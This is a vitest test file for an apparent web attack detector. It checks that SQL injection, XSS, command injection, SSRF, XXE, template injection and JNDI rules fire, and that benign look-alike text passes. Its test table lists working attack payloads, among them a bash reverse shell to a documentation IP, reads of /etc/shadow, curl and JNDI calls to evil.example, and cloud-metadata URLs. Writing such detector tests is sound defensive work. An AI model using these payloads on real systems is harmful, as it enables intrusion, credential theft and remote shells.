import { describe, expect, it } from 'vitest';
import { detector, request, rules } from '../../support/detector.js';

/**
 * Each family's rules on the values they target, and on the benign values that look closest
 * to them: a JSON body field (`{"v": value}`) at paranoia 1 unless the row says otherwise.
 */
const p1 = detector();
const inBody = (value: string) => p1.inspect(request({ body: { v: value } }));

describe('attack detection rules, on a JSON body value at paranoia 1', () => {
  it.each([
    // [family, payload, rule expected to fire]
    ['sqli', "' OR 1=1 --", 'detect.sqli.tautology'],
    ['sqli', "x' or 'a'='a", 'detect.sqli.tautology'],
    ['sqli', '" or ""="', 'detect.sqli.tautology'],
    ['sqli', '1 AND 1=2', 'detect.sqli.tautology'],
    ['sqli', "admin'--", 'detect.sqli.quote_breakout'],
    ['sqli', "1') or ('1'='1", 'detect.sqli.tautology'],
    ['sqli', "' AND ascii(substr(user(),1,1))>64", 'detect.sqli.quote_breakout'],
    ['sqli', '1 UNION/**/ALL SELECT 1,2', 'detect.sqli.union_select'],
    ['sqli', '1/*!50000UNION*//*!50000SELECT*/1', 'detect.sqli.union_select'],
    ['sqli', "'; DROP TABLE users; --", 'detect.sqli.stacked_query'],
    ['sqli', '1; select * from accounts', 'detect.sqli.stacked_query'],
    ['sqli', "1' AND SLEEP(5)#", 'detect.sqli.time_delay'],
    ['sqli', '1;SELECT PG_SLEEP(10)', 'detect.sqli.time_delay'],
    ['sqli', "1'; WAITFOR DELAY '0:0:5'--", 'detect.sqli.time_delay'],
    ['sqli', "' and updatexml(1,concat(0x7e,user()),1)", 'detect.sqli.error_function'],
    ['sqli', 'select table_name from information_schema.tables', 'detect.sqli.schema_probe'],
    ['sqli', '1 and (select count(*) from users)>0', 'detect.sqli.subquery_logic'],
    ['xss', '<script>alert(1)</script>', 'detect.xss.script_tag'],
    ['xss', '<img src=x onerror=alert(1)>', 'detect.xss.event_handler'],
    ['xss', '<svg/onload=alert(1)>', 'detect.xss.event_handler'],
    ['xss', '" onmouseover="alert(1)', 'detect.xss.event_handler'],
    ['xss', 'javascript:alert(1)', 'detect.xss.script_uri'],
    ['xss', 'jav\tascript:alert(1)', 'detect.xss.script_uri'],
    ['xss', '<a href="data:text/html,<b>x</b>">x</a>', 'detect.xss.script_uri'],
    ['xss', '<iframe src=//evil.example>', 'detect.xss.embedding_tag'],
    ['cmdi', '; cat /etc/passwd', 'detect.cmdi.chained_command'],
    ['cmdi', 'a | id', 'detect.cmdi.chained_command'],
    ['cmdi', '$(whoami)', 'detect.cmdi.chained_command'],
    ['cmdi', '`uname -a`', 'detect.cmdi.chained_command'],
    ['cmdi', 'x && /usr/bin/curl evil.example', 'detect.cmdi.chained_command'],
    ['cmdi', ';cat${IFS}/etc/shadow', 'detect.cmdi.shell_evasion'],
    ['cmdi', '{cat,/etc/passwd}', 'detect.cmdi.shell_evasion'],
    ['cmdi', 'bash -i >& /dev/tcp/198.51.100.1/4444 0>&1', 'detect.cmdi.reverse_shell'],
    ['traversal', '../../etc/hosts', 'detect.traversal.dot_dot'],
    ['traversal', '..\\..\\boot.ini', 'detect.traversal.dot_dot'],
    ['traversal', '..;/..;/admin', 'detect.traversal.dot_dot'],
    ['traversal', '/proc/self/environ', 'detect.traversal.sensitive_file'],
    ['traversal', 'php://filter/resource=index.php', 'detect.traversal.stream_wrapper'],
    ['traversal', 'file:///etc/shadow', 'detect.traversal.stream_wrapper'],
    ['ssrf', 'http://127.0.0.1/', 'detect.ssrf.loopback'],
    ['ssrf', 'http://2130706433/', 'detect.ssrf.loopback'],
    ['ssrf', 'http://0x7f.1/', 'detect.ssrf.loopback'],
    ['ssrf', 'http://0177.0.0.01/', 'detect.ssrf.loopback'],
    ['ssrf', 'http://[::ffff:127.0.0.1]/', 'detect.ssrf.loopback'],
    ['ssrf', 'http://[::1]:8080/', 'detect.ssrf.loopback'],
    ['ssrf', 'https://a@localhost./', 'detect.ssrf.loopback'],
    ['ssrf', 'http://10.1.2.3/', 'detect.ssrf.private_network'],
    ['ssrf', 'http://[fd12::1]/', 'detect.ssrf.private_network'],
    ['ssrf', 'http://169.254.1.1/', 'detect.ssrf.link_local'],
    ['ssrf', 'http://[fe80::1%25eth0]/', 'detect.ssrf.link_local'],
    ['ssrf', 'http://169.254.169.254/latest/', 'detect.ssrf.cloud_metadata'],
    ['ssrf', 'http://2852039166/', 'detect.ssrf.cloud_metadata'],
    ['ssrf', 'http://[::ffff:a9fe:a9fe]/', 'detect.ssrf.cloud_metadata'],
    ['ssrf', 'http://[fd00:ec2::254]/', 'detect.ssrf.cloud_metadata'],
    ['ssrf', 'http://metadata.google.internal/', 'detect.ssrf.cloud_metadata'],
    ['ssrf', '169.254.169.254', 'detect.ssrf.cloud_metadata'],
    ['ssrf', 'gopher://example.com:70/_x', 'detect.ssrf.dangerous_scheme'],
    ['nosql', '{"$where": "sleep(100)"}', 'detect.nosql.operator_text'],
    ['nosql', "'; return true; var a='", 'detect.nosql.js_injection'],
    ['proto', '__proto__.isAdmin', 'detect.proto.polluting_path'],
    ['proto', 'constructor[prototype][x]', 'detect.proto.polluting_path'],
    [
      'xxe',
      '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
      'detect.xxe.entity_declaration',
    ],
    ['xxe', '<!DOCTYPE a SYSTEM "http://evil.example/a.dtd">', 'detect.xxe.external_dtd'],
    ['xxe', '<x xmlns:xi="http://www.w3.org/2001/XInclude"/>', 'detect.xxe.xinclude'],
    ['ssti', '{{7*7}}', 'detect.ssti.expression'],
    ['ssti', "{{ 7 * '7' }}", 'detect.ssti.expression'],
    ['ssti', '${7*7}', 'detect.ssti.expression'],
    ['ssti', "{{''.__class__.__mro__}}", 'detect.ssti.expression'],
    ['ssti', "${T(java.lang.Runtime).getRuntime().exec('id')}", 'detect.ssti.expression'],
    ['ssti', '<#assign x="freemarker.template.utility.Execute"?new()>', 'detect.ssti.directive'],
    ['jndi', '${jndi:ldap://evil.example/a}', 'detect.jndi.lookup'],
    ['jndi', '${${lower:j}ndi:ldap://evil.example/a}', 'detect.jndi.obfuscated_lookup'],
    ['jndi', '${${::-j}${::-n}${::-d}${::-i}:rmi://x/y}', 'detect.jndi.obfuscated_lookup'],
    ['jndi', '${${env:X:-j}ndi${env:X:-:}ldap://x}', 'detect.jndi.obfuscated_lookup'],
    ['crlf', 'a%0d%0aSet-Cookie: x=1', 'detect.crlf.header_injection'],
  ])('%s: %j fires %s', (_family, payload, rule) => {
    const d = inBody(payload);
    expect(rules(d)).toContain(rule);
    expect(d.score).toBeGreaterThanOrEqual(5);
  });

  it.each([
    // Benign values that come closest to a rule: none may reach the threshold.
    ["Seán O'Brien"],
    ["It's 50% off? That's great, I'll take two."],
    ['Please select the best option from the union of both lists.'],
    ['Dear team; select the ones you like and drop the rest.'],
    ['Meeting notes; exec team agreed.'],
    ['I ordered 2 or 3 items, or maybe 5 or 6.'],
    ['She said "it\'s fine" -- and left.'],
    ['map.put("key", value); return map.get("key");'],
    ['time.sleep(0.5)  # back off'],
    ['await sleep(1000);'],
    ['SELECT the size you want (S, M or L)'],
    ['Tom & Jerry; cat lovers unite'],
    ['Skills: Java; Python; Ruby'],
    ['Run `ls -la` and paste the output.'],
    ['Learning JavaScript: The Good Parts'],
    ['JavaScript: the definitive guide'],
    ['a < b and c > d'],
    ['Use <b>bold</b> and <i>italic</i>.'],
    ['Hello {{name}}, your order {{order.id}} has shipped.'],
    ['{{ customer.first_name | capitalize }}'],
    ['`Total: ${price * qty}`'],
    ['Price: 10.50'],
    ['version 1.2.3'],
    ['https://www.example.com/a/../b'],
    ['See ../docs/readme.md'],
    ['https://203.0.113.10/status'],
    ['https://en.wikipedia.org/wiki/Localhost'],
    ['{"$schema": "https://json-schema.org/draft/2020-12/schema", "$ref": "#/a"}'],
    ['The __proto__ property is deprecated.'],
    ['Line one\nSubject: hello\nLine three'],
    ['café crème, Łódź, 東京'],
    ['aGVsbG8gd29ybGQ='],
  ])('lets %j through', (value) => {
    const d = inBody(value);
    expect(d.score, JSON.stringify(d.findings)).toBeLessThan(5);
  });
});

describe('where attack detection looks', () => {
  it.each([
    [
      'a query parameter value',
      request({ query: 'q=%27%20OR%201%3D1--' }),
      'query.q',
      'detect.sqli.tautology',
    ],
    [
      'a form-encoded query value',
      request({ query: 'q=1+union+select+1' }),
      'query.q',
      'detect.sqli.union_select',
    ],
    [
      'a bracketed query name',
      request({ query: 'user[$ne]=x' }),
      'query.user[$ne]',
      'detect.nosql.operator_key',
    ],
    [
      'a dotted query name',
      request({ query: '__proto__.admin=1' }),
      'query.__proto__.admin',
      'detect.proto.polluting_key',
    ],
    [
      'a header',
      request({ headers: { 'user-agent': '${jndi:ldap://x/a}' } }),
      'header.user-agent',
      'detect.jndi.lookup',
    ],
    [
      'a cookie',
      request({ headers: { cookie: 'a=1; lang=../../etc/passwd' } }),
      'cookie.lang',
      'detect.traversal.dot_dot',
    ],
    [
      'the path',
      request({ path: '/files/php://filter' }),
      'path',
      'detect.traversal.stream_wrapper',
    ],
    [
      'a deep JSON value',
      request({ body: { a: [{ b: { c: '<script>' } }] } }),
      'body./a/0/b/c',
      'detect.xss.script_tag',
    ],
    [
      'a JSON operator key',
      request({ body: { password: { $ne: null } } }),
      'body./password/$ne',
      'detect.nosql.operator_key',
    ],
    [
      'a JSON __proto__ key',
      request({ body: JSON.parse('{"a":{"__proto__":{"x":1}}}') as unknown }),
      'body./a/__proto__',
      'detect.proto.polluting_key',
    ],
    [
      'constructor.prototype keys',
      request({ body: { constructor: { prototype: { x: 1 } } } }),
      'body./constructor',
      'detect.proto.polluting_key',
    ],
    [
      'a pointer-escaped key',
      request({ body: { 'a/b': '<script>' } }),
      'body./a~1b',
      'detect.xss.script_tag',
    ],
    [
      'a value deep in arrays and objects',
      request({ body: { items: [1, null, { 'n~o': [true, '; cat /etc/passwd'] }] } }),
      'body./items/2/n~0o/1',
      'detect.cmdi.chained_command',
    ],
  ])('finds an attack in %s', (_where, parts, location, rule) => {
    const d = p1.inspect(parts);
    expect(d.findings).toContainEqual(expect.objectContaining({ rule, location }));
  });

  it('does not read the headers it is told to ignore (credentials are not inspected)', () => {
    const d = p1.inspect(request({ headers: { authorization: "Bearer ' OR 1=1 --" } }));
    expect(d.findings).toEqual([]);
  });

  it.each([
    ['path', request({ path: '/a/<script>' })],
    ['query', request({ query: 'q=<script>' })],
    ['headers', request({ headers: { 'x-a': '<script>' } })],
    ['cookies', request({ headers: { cookie: 'a=<script>' } })],
    ['body', request({ body: { a: '<script>' } })],
  ] as const)('skips the %s when inspect turns it off', (part, parts) => {
    expect(p1.inspect(parts).score).toBeGreaterThanOrEqual(5);
    const off = detector({
      inspect: { path: true, query: true, headers: true, cookies: true, body: true, [part]: false },
    });
    expect(off.inspect(parts).findings).toEqual([]);
  });

  // The SQL rules look words up in tables of their own: a word that names a property of every
  // object must read as the word it is, not crash the scan (a 500 for a harmless request).
  it.each(['a; constructor', 'a;toString x', 'x; __proto__ y', 'x; hasOwnProperty'])(
    'reads %s after a semicolon without throwing',
    (value) => {
      expect(inBody(value).findings).toEqual([]);
    },
  );

  it('refuses to read past inspectBytes rather than let the rest through unread', () => {
    const small = detector({ inspectBytes: 1_024 });
    const d = small.inspect(request({ body: { a: 'x'.repeat(1_000), b: '<script>'.repeat(10) } }));
    expect(d.tooLarge).toBe(true);
  });
});

describe('paranoia, threshold and exclusions', () => {
  it.each([
    // [value, paranoia, refused]
    ['<svg><b>x</b></svg>', 1, false],
    ['<svg><b>x</b></svg>', 3, true],
    ["it's a select * from dual thing", 1, false],
    ["it's a select * from dual thing", 3, true],
    ['127.0.0.1', 1, false],
    ['127.0.0.1', 2, false], // a warning (3) alone stays under the threshold
  ])('%j at paranoia %d is refused: %s', (value, paranoia, refused) => {
    const d = detector({ paranoia }).inspect(request({ body: { v: value } }));
    expect(d.score >= 5).toBe(refused);
  });

  it('adds the scores of distinct rules, each once', () => {
    const d = p1.inspect(request({ body: { a: '<script>', b: '<script>', c: "' or 1=1--" } }));
    expect(rules(d)).toEqual(['detect.sqli.tautology', 'detect.xss.script_tag']);
    expect(d.score).toBe(10);
  });

  it.each([
    // [exclusion, location attacked, still refused]
    [{ rules: ['detect.xss.script_tag'], locations: ['body./comment'] }, 'comment', false],
    [{ rules: ['detect.xss.script_tag'], locations: ['body./comment'] }, 'title', true],
    [{ rules: ['detect.xss'], locations: ['body./comment'] }, 'comment', false],
    [{ rules: ['detect.sqli'], locations: ['body./comment'] }, 'comment', true],
    [{ rules: ['*'], locations: ['body./c*'] }, 'comment', false],
    [{ rules: ['detect.xss.script_tag'] }, 'title', false],
    [{ rules: ['detect.xss.event_handler'] }, 'title', true],
  ])('exclusion %j, attack in %s: refused %s', (exclusion, field, refused) => {
    const d = detector({ exclusions: [exclusion] }).inspect(
      request({ body: { [field]: '<script>alert(1)</script>' } }),
    );
    expect(d.score >= 5).toBe(refused);
  });

  it('keeps a rule excluded at one location firing at another', () => {
    const d = detector({ exclusions: [{ rules: ['detect.xss'], locations: ['body./a'] }] }).inspect(
      request({ body: { a: '<script>', b: '<script>' } }),
    );
    expect(d.findings).toEqual([
      expect.objectContaining({ rule: 'detect.xss.script_tag', location: 'body./b' }),
    ]);
  });
});
